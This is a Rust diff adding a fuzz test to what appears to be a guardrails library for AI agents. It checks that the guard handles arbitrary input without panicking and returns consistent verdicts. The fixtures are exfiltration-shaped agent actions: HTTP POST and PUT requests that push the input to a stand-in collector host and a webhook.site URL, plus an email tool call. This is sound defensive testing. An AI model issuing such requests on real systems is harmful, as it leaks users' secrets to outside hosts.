@@ -129,6 +129,43 @@ pub fn evaluate_any_in(data: &[u8], mode: Mode) {
     assert!(serde_json::to_string(&audit).is_ok(), "an audit record always serializes");
 }
 
+/// Fuzzes the payload path: the input, as lossy UTF-8, goes through the secret scanner on its own,
+/// then as an HTTP body (text and JSON string), a header, a URL query and a tool argument to an
+/// outside host. Nothing may panic, and the fast path and full analysis must agree.
+pub fn scan_payload(data: &[u8]) {
+    scan_payload_in(data, Mode::TolerateKnownGaps);
+}
+
+/// [`scan_payload`], tolerating known gaps or not.
+pub fn scan_payload_in(data: &[u8], mode: Mode) {
+    let text = String::from_utf8_lossy(data);
+    let _ = guardrails_core::bench_support::scan_secrets(&text);
+    let guard = Guard::recommended();
+    let agent = agent_in_production();
+    let mut headers = std::collections::BTreeMap::new();
+    headers.insert("X-Note".to_owned(), text.to_string());
+    let actions = [
+        Action::Http {
+            method: "POST".to_owned(),
+            url: format!("https://collector.example.net/in?q={}", text.replace(['#', ' '], "")),
+            headers,
+            body: Some(serde_json::Value::String(text.to_string())),
+        },
+        Action::Http {
+            method: "PUT".to_owned(),
+            url: "https://webhook.site/x".to_owned(),
+            headers: std::collections::BTreeMap::new(),
+            body: serde_json::from_str(&text).ok(),
+        },
+        Action::tool_call("send_email", serde_json::json!({"to": "x@example.com", "body": text})),
+        Action::tool_call("unknown_tool", serde_json::json!({"step": text, "nested": [{"token": text}]})),
+    ];
+    for action in &actions {
+        let verdict = assert_sound(&guard, action, &agent, mode);
+        let _ = serde_json::to_string(&verdict.audit()).unwrap_or_else(|e| panic!("an audit record serializes: {e}"));
+    }
+}
+
 /// What a host sends: an action and, optionally, its context.
 #[derive(Debug, serde::Deserialize)]
 #[serde(deny_unknown_fields)]
